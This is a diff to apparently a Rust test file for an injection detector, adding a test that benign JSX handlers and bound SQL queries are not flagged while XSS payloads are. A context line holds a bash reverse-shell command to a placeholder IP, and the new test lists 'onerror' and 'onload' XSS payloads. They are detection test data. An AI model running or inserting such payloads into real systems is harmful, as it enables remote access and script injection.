@@ -1009,3 +1009,23 @@ fn script_and_build_files_show_their_command_lines() {
     let text = "#!/bin/bash\necho start\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n";
     assert!(detector().scan_as(text.as_bytes(), InputKind::Text).threat);
 }
+
+#[test]
+fn jsx_handlers_and_bound_queries_are_not_injections() {
+    assert_clean_of(
+        "<li key={t.id} onClick={() => toggle(t.id)} onKeyDown={onKey}>{t.title}</li>",
+        Category::Xss,
+    );
+    for attack in [
+        "<img src=x onerror={alert(document.domain)}>",
+        "<svg onload={(()=>alert(1))()}>",
+    ] {
+        assert!(detector().scan(attack.as_bytes()).threat, "{attack}");
+    }
+    // A traced query with bind placeholders supplies nothing.
+    let log =
+        r#"{"event":"db.query","statement":"UPDATE carts SET total = $1 WHERE id = $2","ms":12}"#;
+    assert_clean_of(log, Category::Sqli);
+    let body = r#"{"statement":"UPDATE carts SET total = 0 WHERE id = 7"}"#;
+    assert!(detector().scan(body.as_bytes()).threat);
+}
